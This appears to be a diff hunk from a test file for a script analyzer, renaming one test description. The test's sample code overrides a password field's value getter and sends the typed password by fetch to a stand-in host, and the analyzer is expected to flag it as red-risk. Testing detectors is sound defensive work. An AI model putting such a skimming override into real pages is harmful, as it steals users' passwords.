@@ -64,7 +64,7 @@ describe("properties put over those of an element", () => {
 const field = document.querySelector("[type=password]");
 Object.defineProperty(field, "value", { configurable: true, get() { ${body} }, set(text) { base.set.call(this, text) } });`;
 
-	test("the page reads them, and gets what the browser has beneath", () => {
+	test("the page reads them and gets the browser's value", () => {
 		const code = OVER(`const text = base.get.call(this); fetch("https://c.test/?" + text); return text;`);
 		expect(analyzeScript({ code }).risk_level).toBe("red");
 	});
